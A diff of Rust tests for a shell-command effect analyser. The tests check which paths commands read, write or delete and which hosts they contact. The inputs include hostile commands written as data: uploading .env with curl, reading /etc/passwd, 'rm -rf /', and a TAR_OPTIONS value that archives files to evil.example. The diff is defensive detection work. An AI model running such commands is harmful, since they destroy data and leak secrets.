@@ -44,14 +44,14 @@ fn told(text: &str) -> String {
 
 #[test]
 fn the_tables_can_be_read() {
-    for file in table::FILES {
-        assert_eq!(table::check::faults(file), Vec::<String>::new());
+    for file in entry::FILES {
+        assert_eq!(check::faults(file), Vec::<String>::new());
     }
 }
 
 #[test]
 fn no_program_is_described_twice() {
-    assert_eq!(table::check::described_twice(table::FILES), Vec::<String>::new());
+    assert_eq!(check::described_twice(entry::FILES), Vec::<String>::new());
 }
 
 #[test]
@@ -147,7 +147,7 @@ fn hosts_of_programs() {
     assert_eq!(told("curl -T .env http://a.com"), "r /w/.env; c a.com:80");
     assert_eq!(told("curl file:///etc/passwd"), "r /etc/passwd");
     assert_eq!(told("wget https://a.com/b/c.tgz?x=1"), "w /w/c.tgz; c a.com:443");
-    assert_eq!(told("ssh -i key u@h ls /x"), "r /w/key; c h");
+    assert_eq!(told("ssh -i key u@h ls /x"), "c h");
     assert_eq!(told("scp -r a u@h:/x"), "r /w/a/; c h:22");
     assert_eq!(told("scp u@h:/x ."), "w /w; w /w/x; c h:22");
     assert_eq!(told("rsync -a --delete a/ h:b"), "r /w/a/; c h:22");
@@ -234,4 +234,39 @@ fn more_words_make_unknown_paths() {
     rm.more_args = true;
     let found = effects(&rm);
     assert!(found.deletes[0].path.has_unknown() && found.deletes.len() == 1);
+}
+
+#[test]
+fn a_program_that_shows_its_help_does_nothing() {
+    for text in ["rm -rf / --help", "rm --version x", "rm -rf --help x", "chmod -R 777 / --help"] {
+        assert_eq!(told(text), "", "{text}");
+    }
+    for text in [
+        "rm -rf / -- --help",
+        "find / -name --help -delete",
+        "find / -exec echo --help ; -delete",
+        "chmod -R --reference --help /",
+        "mv --no-such-option --help a b",
+    ] {
+        assert_ne!(told(text), "", "{text}");
+    }
+    let mut strict = run("rm -rf /x --help");
+    strict.env.push(("POSIXLY_CORRECT".to_owned(), Word::text("1")));
+    assert_eq!(paths(&effects(&strict).deletes).first().map(String::as_str), Some("/x/"));
+}
+
+#[test]
+fn tar_takes_options_from_its_variables() {
+    let told = |variable: &str, value: Word| {
+        let mut run = run("tar -- key");
+        run.env.push((variable.to_owned(), value));
+        effects(&run)
+    };
+    let sent = told("TAR_OPTIONS", Word::text("--create --file=evil.example:/archive"));
+    assert_eq!(sent.connects.first().unwrap().host.written(), "evil.example");
+    assert_eq!(paths(&sent.reads), ["/w/key/"]);
+    assert!(!told("TAR_OPTIONS", Word::unknown("$X", true)).unclear.is_empty());
+    let mut tape = run("tar -c key");
+    tape.env.push(("TAPE".to_owned(), Word::text("evil.example:/x")));
+    assert_eq!(effects(&tape).connects.len(), 1);
 }
